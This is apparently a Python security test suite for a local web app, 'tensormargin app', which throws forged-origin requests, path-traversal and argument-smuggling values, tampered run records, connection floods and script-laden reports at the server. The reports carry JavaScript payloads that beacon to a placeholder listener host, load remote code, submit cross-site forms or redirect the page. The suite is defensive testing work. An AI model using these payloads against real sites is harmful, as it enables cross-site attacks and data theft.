"""What strangers do to `tensormargin app`: requests, folders with runs, reports with scripts, and idle connections.

None of it may start a command, write a file or show what this user has not made, and the page answers afterwards.
"""

from __future__ import annotations

import json
import os
import resource
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from http.client import HTTPConnection, HTTPException
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from unittest.mock import patch
from urllib.parse import quote, urlsplit

import numpy as np

from campaigns.browser import hostile_text, listener, open_browser
from campaigns.models import VALUES
from campaigns.outcome import Outcome
from tensormargin.cli.app import runs, server

Rng = np.random.Generator

PATIENCE = 20.0  # seconds that an answer may take on a busy machine
FEW_FILES = 256  # that the server of idle connections may open
HOSTS = ("127.0.0.1:{port}", "localhost:{port}", "example.org", "127.0.0.1.example.org", "", "[::1]", "0.0.0.0:{port}")
ORIGINS = (None, "http://{host}", "null", "http://127.0.0.1:1", "http://localhost", "https://{host}", "http://{host}.org",
           "")  # fmt: skip
SITES = (None, "same-origin", "none", "cross-site", "same-site", "x")
DESTINATIONS = (None, "document", "iframe", "empty", "image")
PLACES = ("", "runs", "look", "files?under=/", "files?batch=ab1&name=x", "files?batch=..&name=x", "files/ab1",
          "runs/run-1/resume", "runs/run-1/stop", "runs/run-1/files/study.html", "runs/run-1/files/../run.json",
          "runs/%00/resume", "page/app.js", "page/../server.py", "%ff")  # fmt: skip
TEXTS = ("a\0b", "\ud800", "x" * 200_000, "--scheduler", "-x", "/nowhere.npz", "../..", "~", "|", "\n", "\x1b[2J")
FIELDS = ("labels", "groups", "rank", "scheduler", "jobs", "out", "view", "linear", "__class__")
RECORDS = ("of 0.2.0", "of another folder", "of another key", "changed", "no JSON", "deep", "a link", "a pipe",
           "a folder", "in a linked folder", "without end")  # fmt: skip
ENDINGS = (".html", ".html", ".html", ".svg", ".xhtml", ".htm", ".HTML", ".xml", ".mhtml", "")
POST = "{method: 'POST', headers: {'Content-Type': 'application/json'}, body: "
RUN = "JSON.stringify({command: 'fit', data: ['/nowhere.npz'], options: {scheduler: 'tcp://HOST'}})}"
ADDED = "document.documentElement.append(Object.assign(document.createElement"
ACTIONS = (
    "fetch(page + 'runs/run-1/resume', {method: 'POST', mode: 'no-cors'})",
    f"fetch(page + 'runs', {POST}{RUN})",
    "fetch(page + 'files?batch=ab1&name=planted', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "navigator.sendBeacon(page + 'runs/run-1/resume')", "fetch('http://HOST/')",
    "new Image().src = 'http://HOST/' + page", "location = 'http://HOST/'", "top.location = 'http://HOST/'",
    "parent.document.title = 'reached'", "alert(1)", "open('http://HOST/')", "new WebSocket('ws://HOST/')",
    "new EventSource('http://HOST/')", "import('http://HOST/x.js')", "new Worker('http://HOST/x.js')",
    "navigator.serviceWorker.register('x.js')", "location = page", "location = page + 'files?under=/'",
    "location = 'javascript:alert(2)'", "parent.postMessage('x', '*')",
    f"{ADDED}('iframe'), {{src: 'http://HOST/'}}))", f"{ADDED}('iframe'), {{src: page}}))",
    f"{ADDED}('base'), {{href: 'http://HOST/'}}))",
    f"const form = {ADDED}('form'), {{method: 'post', action: page + 'look'}})); document.forms[0].submit()",
)  # fmt: skip


def hostile_page(number: int, seed: int) -> list[Outcome]:
    """Return what became of requests, of runs in a folder, of idle connections, and of scripts in reports."""
    with TemporaryDirectory() as name, patch.dict(os.environ, TENSORMARGIN_CACHE=str(Path(name, "cache"))):
        campaigns = (hostile_requests, planted_runs, idle_connections, hostile_reports)
        return [campaign(Path(name, campaign.__name__), number, seed) for campaign in campaigns]


@contextmanager
def _page(folder: Path) -> Iterator[str]:
    """Serve the page of a folder with a run of an earlier session; its commands end at once; yield the address."""
    with patch.object(runs, "command_of", lambda arguments: [sys.executable, "-ISc", "", *arguments]):
        if not folder.exists():
            with server.serve(folder) as (address, _):
                _ask(address, "POST", "runs", content={"command": "fit", "data": ["/nowhere.npz"]})
            (folder / "run-1" / "study.html").write_text("a report", encoding="utf-8")
        with server.serve(folder) as (address, _):
            yield address


def _ask(address: str, method: str, place: str, headers: Any = None, content: Any = None, raw: bytes = b"") -> Any:
    """Return the status of an answer, and its content if it is JSON."""
    url = urlsplit(address)
    kind = {} if content is None else {"Content-Type": "application/json"}
    body = raw if content is None else json.dumps(content).encode()
    connection = HTTPConnection(url.hostname or "", url.port, timeout=PATIENCE)
    try:
        connection.putrequest(method, f"{url.path}{place}", skip_host="Host" in (headers or {}))
        for name, value in {**kind, "Content-Length": str(len(body)), **(headers or {})}.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        answer = connection.getresponse()
        said = answer.read()
        return answer.status, json.loads(said) if answer.getheader("Content-Type") == "application/json" else None
    finally:
        connection.close()


def _state(folder: Path) -> list[tuple[str, int]]:
    """Return the files of a folder, and when they were written."""
    return sorted((str(path), path.lstat().st_mtime_ns) for path in folder.rglob("*"))


def _pick(rng: Rng, choices: Any) -> Any:
    return choices[int(rng.integers(len(choices)))]


# ---- requests ----


def hostile_requests(folder: Path, number: int, seed: int) -> Outcome:
    """Return how requests of drawn origins, hosts, tokens and bodies are answered."""
    outcome = Outcome("page: requests")
    with _page(folder) as address:
        for case in range(20 * number):
            rng = np.random.default_rng([seed, case])
            before = _state(folder)
            method, place, headers, ours = _drawn_request(rng, address)
            base = address if rng.random() < 0.9 else address[:-2] + "/"
            raw = _drawn_body(rng)
            headers["Content-Type"] = _pick(rng, ("application/json",) * 5 + ("text/plain", "x"))
            words = f"{method} {place} {headers} {raw[:60]!r}"
            try:
                status, said = _ask(base, method, place, headers, raw=raw)
            except (OSError, HTTPException, ValueError) as error:
                outcome.add(f"seed {seed}, case {case}: {words}", [f"no answer: {error!r}"])
                continue
            faults = [] if status < 500 else [f"status {status}"]
            faults += [] if status < 400 or (said or {}).get("error") else [f"status {status} without a reason"]
            if base != address or not ours:
                faults += [] if status in (400, 403) else [f"status {status} for a stranger"]
                faults += ["a stranger wrote"] if _state(folder) != before else []
            outcome.counts["refused"] += status >= 400
            until = time.monotonic() + PATIENCE
            while (left := _running(address)) and time.monotonic() < until:
                time.sleep(0.05)
            outcome.add(
                f"seed {seed}, case {case}: {words}", [*faults, *(f"{name} is running for ever" for name in left)]
            )
    return outcome


def _running(address: str) -> list[str]:
    return [run["id"] for run in _ask(address, "GET", "runs")[1] if run["state"] == "running"]


def _drawn_request(rng: Rng, address: str) -> tuple[str, str, dict[str, str], bool]:
    """Return method, place and headers, and whether the page or a person could have sent them."""
    port = urlsplit(address).port
    host = _pick(rng, HOSTS[:2] * 6 + HOSTS[2:]).format(port=port)
    origin, site, kind = (_pick(rng, choices) for choices in (ORIGINS, SITES, DESTINATIONS))
    place, method = _pick(rng, PLACES), _pick(rng, ("GET", "POST", "POST", "PUT", "OPTIONS"))
    origin = None if origin is None else origin.format(host=host)
    if rng.random() < 0.5:
        host, origin, site = f"127.0.0.1:{port}", None, "same-origin"
    given = {"Host": host, "Origin": origin, "Sec-Fetch-Site": site, "Sec-Fetch-Dest": kind}
    from_page = site in (None, "same-origin", "none") or (not place and method == "GET" and kind == "document")
    ours = host.partition(":")[0] in ("127.0.0.1", "localhost") and origin in (None, f"http://{host}") and from_page
    return method, place, {name: value for name, value in given.items() if value is not None}, ours


def _drawn_body(rng: Rng) -> bytes:
    if rng.random() < 0.2:
        return bytes(_pick(rng, (b"", b"[" * 30_000, b"{", b"\xff", b"\0", rng.bytes(40))))
    values = (*VALUES, *TEXTS)
    content = {
        "command": _pick(rng, ("fit", "predict", "maps", "inspect", _pick(rng, values))),
        "data": _pick(rng, (["/nowhere.npz"], [_pick(rng, TEXTS)], ["x" * 9_000] * 400, _pick(rng, values))),
        "of": _pick(rng, ("run-1", _pick(rng, values))),
        "options": _pick(rng, ({_pick(rng, FIELDS): _pick(rng, values)}, {}, _pick(rng, values))),
    }
    kept = {name: value for name, value in content.items() if rng.random() < 0.9}
    return json.dumps(_pick(rng, (kept, kept, kept, kept, list(kept), _pick(rng, values)))).encode()


# ---- runs in a folder ----


def planted_runs(folder: Path, number: int, seed: int) -> Outcome:
    """Return which runs are found in folders where a stranger put some beside one of this user."""
    outcome = Outcome("page: planted runs")
    for case in range(number):
        rng = np.random.default_rng([seed, case])
        place = folder / str(case)
        with _page(place):
            pass
        signed = (place / "run-1" / "run.json").read_bytes()
        drawn = [_pick(rng, RECORDS) for _ in range(int(rng.integers(1, 6)))]
        for count, kind in enumerate(drawn):
            names = (f"run-{count + 2}", f"run-{count}x", f"run-0{count + 1}", f"run-{hostile_text(rng, 'HOST')[:60]}")
            _plant(place / _pick(rng, names).replace("/", "|").replace("\0", ""), kind, signed, folder)
        began = time.monotonic()
        with _page(place) as address:
            found = [(run["id"], run["typed"]) for run in _ask(address, "GET", "runs")[1]]
            kept = [("run-1", f"tensormargin fit /nowhere.npz -o {place / 'run-1' / 'nowhere.skops'}")]
            faults = [] if found == kept else [f"found {found}"]
            faults += [f"took {time.monotonic() - began:.0f} s"] if time.monotonic() - began > PATIENCE else []
            status, run = _ask(address, "POST", "runs", content={"command": "fit", "data": ["/nowhere.npz"]})
            faults += [] if status == 200 and run["id"] not in drawn else [f"cannot start a run: {run}"]
        outcome.add(f"seed {seed}, case {case}: {drawn}", faults)
    return outcome


def _plant(place: Path, kind: str, signed: bytes, elsewhere: Path) -> None:
    record = json.dumps({"arguments": ["fit", "x", "--scheduler", "tcp://x"], "lines": [], "code": 130}).encode()
    if kind == "in a linked folder":
        if not place.is_symlink():
            with suppress(FileExistsError):
                place.symlink_to(elsewhere / "0" / "run-1")
        return
    place.mkdir(exist_ok=True)
    path = place / "run.json"
    with suppress(FileExistsError):
        if kind == "a link":
            path.symlink_to(elsewhere / "0" / "run-1" / "run.json")
        elif kind == "a pipe":
            os.mkfifo(path)
        elif kind == "a folder":
            path.mkdir()
        elif kind == "without end":
            with path.open("xb") as file:
                file.truncate(1 << 40)
        else:
            signature, content = signed.partition(b"\n")[::2]
            with path.open("xb") as file:
                file.write({
                    "of 0.2.0": record, "of another folder": signed, "of another key": b"0" * 64 + b"\n" + content,
                    "changed": signature + b"\n" + record, "no JSON": b"{\xff\n", "deep": b"[" * 100_000,
                }[kind])  # fmt: skip


# ---- idle connections ----


def idle_connections(folder: Path, number: int, seed: int) -> Outcome:
    """Return whether the page answers beside hundreds of connections that send nothing, or stop in the middle."""
    outcome = Outcome("page: idle connections")
    command = [sys.executable, "-m", "tensormargin", "app", "--no-browser", "--folder", str(folder)]
    limit = (FEW_FILES, FEW_FILES)
    with subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, limit),
    ) as process:
        try:
            assert process.stdout is not None
            address = process.stdout.readline().split()[-1]
            for case in range(number):
                rng = np.random.default_rng([seed, case])
                outcome.add(f"seed {seed}, case {case}", _hold(rng, address))
        finally:
            process.terminate()
    return outcome


def _hold(rng: Rng, address: str) -> list[str]:
    """Hold connections, and return what is wrong with the page meanwhile."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 50
    starts = (b"", b"GET", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"POST / HTTP/1.1\r\nContent-Length: 9\r\n\r\nx")
    url = urlsplit(address)
    with ExitStack() as stack:
        count = min(int(rng.integers(FEW_FILES, 1_150)), most)
        for _ in range(count):
            held = stack.enter_context(socket.create_connection((url.hostname, url.port), PATIENCE))
            with suppress(OSError):
                held.sendall(_pick(rng, starts))
        try:
            status, _ = _ask(address, "GET", "runs")
        except OSError as error:
            return [f"{count} connections: {error!r}"]
    return [] if status == 200 else [f"{count} connections: status {status}"]


# ---- scripts ----


def hostile_reports(folder: Path, number: int, seed: int) -> Outcome:
    """Return what scripts in files of a run reach, in the frame of the page and, where no report, by themselves."""
    outcome = Outcome("page: scripts in reports")
    folder.mkdir()
    with listener() as (host, calls), open_browser(folder) as driver, _page(folder / "app") as address:
        if driver is None:
            outcome.note("needs Chromium, its driver and Selenium")
            return outcome
        for case in range(number):
            rng = np.random.default_rng([seed, case])
            actions = [_pick(rng, ACTIONS).replace("HOST", host) for _ in range(int(rng.integers(1, 6)))]
            name = f"study{_pick(rng, ENDINGS)}"
            for path in (folder / "app" / "run-1").glob("study*"):
                path.unlink()
            (folder / "app" / "run-1" / name).write_text(_with_script(name, actions), encoding="utf-8")
            before = _state(folder / "app")
            faults = _look(driver, address, name)
            faults += [
                f"sent {call[1][:60]!r}" for call in calls if call[1:]
            ]  # browsers may connect before they refuse
            faults += [] if _state(folder / "app") == before else ["something was written"]
            calls.clear()
            outcome.add(f"seed {seed}, case {case}: {name}, {actions}", faults)
    return outcome


def _with_script(name: str, actions: list[str]) -> str:
    tries = "\n".join(f"setTimeout(() => {{ try {{ {one}; }} catch {{}} }});" for one in actions)
    script = f"const page = location.href.split('runs/')[0];\n{tries}\nsetTimeout(() => document.title = 'tried', 200);"
    if name.endswith((".svg", ".xml")):
        return (
            f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[{script}]]></script></svg>'
        )
    if name.endswith(".xhtml"):
        return f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[{script}]]></script></body></html>'
    return f"<!doctype html><title>x</title><script>{script}</script>"


def _look(driver: Any, address: str, name: str) -> list[str]:
    """Open the page, and the file by itself if it is no report, and return what is wrong."""
    from selenium.common.exceptions import UnexpectedAlertPresentException

    file = f"{address}runs/run-1/files/{quote(name)}"
    try:
        driver.get("about:blank")
        driver.get(address)
        until = time.monotonic() + PATIENCE
        while not driver.find_elements("css selector", "#run-1") and time.monotonic() < until:
            time.sleep(0.05)
        frames = driver.find_elements("css selector", "#run-1 iframe")
        faults = [] if bool(frames) == name.endswith(".html") else [f"{len(frames)} frames"]
        time.sleep(0.5)  # the script ends 0.2 s after the frame is loaded
        title, place = driver.execute_script("return [document.title, location.href]")
        faults += [] if (title, place) == ("tensormargin", address) else [f"the page is {title!r} at {place}"]
        if not name.endswith(".html"):
            driver.get(file)
            time.sleep(0.3)
        faults += [f"windows: {driver.window_handles}"] if len(driver.window_handles) > 1 else []
    except UnexpectedAlertPresentException as error:
        return [f"a dialog: {error.alert_text}"]
    return faults
